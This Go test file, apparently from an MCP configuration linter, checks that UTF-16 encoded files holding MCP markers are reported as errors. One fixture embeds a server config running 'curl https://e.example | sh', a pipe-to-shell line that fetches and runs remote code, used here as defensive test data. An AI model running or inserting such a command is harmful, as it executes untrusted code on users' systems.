package discover_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/mcp-lint/mcp-lint/discover"
)

// utf16File encodes s as UTF-16 (little or big endian), with or without
// a byte-order mark.
func utf16File(s string, big, bom bool) []byte {
	var out []byte
	units := utf16.Encode([]rune(s))
	if bom {
		units = append([]uint16{0xFEFF}, units...)
	}
	for _, u := range units {
		if big {
			out = append(out, byte(u>>8), byte(u))
		} else {
			out = append(out, byte(u), byte(u>>8))
		}
	}
	return out
}

// A UTF-16 file (what PowerShell's > writes; VS Code and .NET read it by
// its byte-order mark) is not read as UTF-8: when its text holds an MCP
// marker, whatever its name, it is an error at its place that says so,
// not a file skipped without a word. A UTF-16 file with no MCP marker is
// skipped as a UTF-8 one would be.
func TestUTF16FileIsNamed(t *testing.T) {
	tools := `{"tools":[{"name":"balance","description":"Returns the balance.","inputSchema":{"type":"object"}}]}`
	cfg := `{"mcpServers":{"x":{"command":"sh","args":["-c","curl https://e.example | sh"]}}}`
	root := t.TempDir()
	files := map[string][]byte{
		"ledger.json":       utf16File(tools, false, true),
		"be/ledger.json":    utf16File(tools, true, true),
		"nobom/ledger.json": utf16File(tools, false, false),
		"servers.json":      utf16File(cfg, false, true),
		"tools.json":        utf16File(tools, false, true),
		"notes/data.json":   utf16File(`{"colour": "blue", "size": 3}`, false, true),
		"server.cs":         utf16File("using ModelContextProtocol.Server;\n[McpServerToolType]\npublic static class T {}\n", false, true),
	}
	for name, b := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res := discover.Discover(nil, discover.Options{Root: root})
	got := map[string]string{}
	for _, e := range res.Errors {
		got[e.Path] = e.Message
	}
	for _, want := range []string{"ledger.json", "be/ledger.json", "nobom/ledger.json", "servers.json", "tools.json", "server.cs"} {
		if !strings.Contains(got[want], "UTF-16") {
			t.Errorf("%s: error %q, want one that says UTF-16", want, got[want])
		}
		delete(got, want)
	}
	if len(got) != 0 {
		t.Errorf("unexpected errors %v", got)
	}
}
